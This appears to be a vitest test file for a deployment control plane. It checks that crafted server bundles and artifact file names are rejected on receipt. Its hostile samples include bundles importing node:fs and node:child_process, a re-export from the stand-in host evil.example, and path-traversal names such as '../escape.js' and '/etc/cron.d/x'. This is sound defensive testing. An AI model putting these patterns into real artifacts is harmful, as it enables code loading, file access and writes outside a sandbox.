/** What a deploy's artifact is checked for at receipt, attacked with hand-made artifacts that verify by their hashes. */
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeArtifact } from '../core/build';
import { createControlPlane, type ControlPlane } from './control-plane';
import { build, deployBody, smallApp, withFile, type BuiltApp } from '../testing/control-plane-apps';
import { call, signIn } from '../testing/control-plane';
import { serverBundleProblem } from './server-bundle';

let work: string;
let dataDir: string;
let plane: ControlPlane;
let token: string;
let small: BuiltApp;

const json = async (response: Promise<Response>) => (await response).json() as Promise<Record<string, any>>;
const hostedIndex = (appId: string) => plane.app.request(new Request(`http://${appId.replace('_', '-')}--preview.localhost:4310/`));
const kept = (dir: string) => (existsSync(join(dataDir, dir)) ? readdirSync(join(dataDir, dir)) : []);

/** The same artifact with a file under any name, re-addressed so that its hashes verify. */
function withPath(app: BuiltApp, path: string, text: string): BuiltApp {
  const files = new Map(app.files);
  files.set(path, new TextEncoder().encode(text));
  const { format: _f, files: _files, schemaId: _s, ...input } = app.record;
  const { id, record } = makeArtifact(input, files);
  return { id, record, files };
}

async function newApp(): Promise<string> {
  return (await json(call(plane, 'POST', '/v0/apps', { token, body: { name: 'small-app' } }))).app.id as string;
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'platform-receipt-'));
  dataDir = join(work, 'data');
  plane = await createControlPlane({ dataDir });
  token = await signIn(plane, 'mallory');
  small = await build(smallApp({ storage: false }));
}, 120_000);

afterAll(async () => {
  await plane.close();
  rmSync(work, { recursive: true, force: true });
});

const original = () => new TextDecoder().decode(small.files.get('server/index.js'));

describe('a server bundle is checked at receipt', () => {
  const hostile: Array<[string, (source: string) => string]> = [
    ['a static import of node:fs', (s) => `import { readFileSync } from 'node:fs';\nglobalThis.leak = readFileSync;\n${s}`],
    ['a bare side-effect import', (s) => `import 'node:child_process';\n${s}`],
    ['a dynamic import of a literal', (s) => `${s}\nglobalThis.later = () => import('node:fs');\n`],
    ['a dynamic import of a computed specifier', (s) => `${s}\nconst name = ['node', 'fs'].join(':');\nglobalThis.later = () => import(name);\n`],
    ['a re-export from a URL', (s) => `${s}\nexport * from 'https://evil.example/x.js';\n`],
    ['a bare package', (s) => `import lodash from 'lodash';\nglobalThis.l = lodash;\n${s}`],
    ['a relative import of a file it does not contain', (s) => `import './other.js';\n${s}`],
    ['a module that does not parse', (s) => `${s}\nexport default {;\n`],
  ];

  for (const [what, change] of hostile) {
    it(`refuses ${what} with module_invalid, keeping and starting nothing`, async () => {
      const appId = await newApp();
      const crafted = withFile(small, 'server/index.js', change(original()));
      const before = { blobs: kept('blobs'), artifacts: kept('artifacts'), modules: kept('modules') };
      const answer = await call(plane, 'POST', `/v0/apps/${appId}/deployments`, { token, body: deployBody(crafted) });
      expect(answer.status).toBe(422);
      const body = (await answer.json()) as { error: { code: string; message: string } };
      expect(body.error.code).toBe('module_invalid');
      expect(body.error.message).toContain('server/index.js');
      // Nothing kept, nothing started, nothing served.
      expect({ blobs: kept('blobs'), artifacts: kept('artifacts'), modules: kept('modules') }).toEqual(before);
      expect(kept('blobs')).not.toContain(crafted.record.files['server/index.js']!.sha256);
      const app = await json(call(plane, 'GET', `/v0/apps/${appId}`, { token }));
      expect(app.app.serving).toEqual({});
      expect((await hostedIndex(appId)).status).toBe(404);
      expect(existsSync(join(dataDir, 'apps', appId))).toBe(false);
    });
  }

  it('names what it refused', async () => {
    expect(await serverBundleProblem(`import 'node:fs';`)).toContain('"node:fs"');
    expect(await serverBundleProblem(`const x = 'a'; import(x);`)).toContain('computed specifier');
    expect(await serverBundleProblem(`export default 1;\nconst u = import.meta.url;`)).toBeUndefined();
    expect(await serverBundleProblem(original())).toBeUndefined();
  });

  it('still accepts a bundle our compiler made, and the previous version keeps serving after a refusal', async () => {
    const appId = await newApp();
    expect((await call(plane, 'POST', `/v0/apps/${appId}/deployments`, { token, body: deployBody(small) })).status).toBe(201);
    const crafted = withFile(small, 'server/index.js', `import 'node:fs';\n${original()}`);
    expect((await call(plane, 'POST', `/v0/apps/${appId}/deployments`, { token, body: deployBody(crafted) })).status).toBe(422);
    expect((await json(call(plane, 'GET', `/v0/apps/${appId}`, { token }))).app.serving.preview).toBe(small.id);
    expect((await hostedIndex(appId)).status).toBe(200);
  });
});

describe('artifact file names are project paths', () => {
  for (const path of ['../escape.js', '/etc/cron.d/x', 'client/../../x', 'client\\x.js', 'client/x\u0000.js', 'C:/x.js', 'client//x.js', './client/x.js']) {
    it(`refuses a file named ${JSON.stringify(path)}`, async () => {
      const appId = await newApp();
      const crafted = withPath(small, path, 'x');
      const answer = await json(call(plane, 'POST', `/v0/apps/${appId}/deployments`, { token, body: deployBody(crafted) }));
      expect(answer.error.code).toBe('artifact_invalid');
      expect(kept('blobs')).not.toContain(crafted.record.files[path]!.sha256);
    });
  }
});
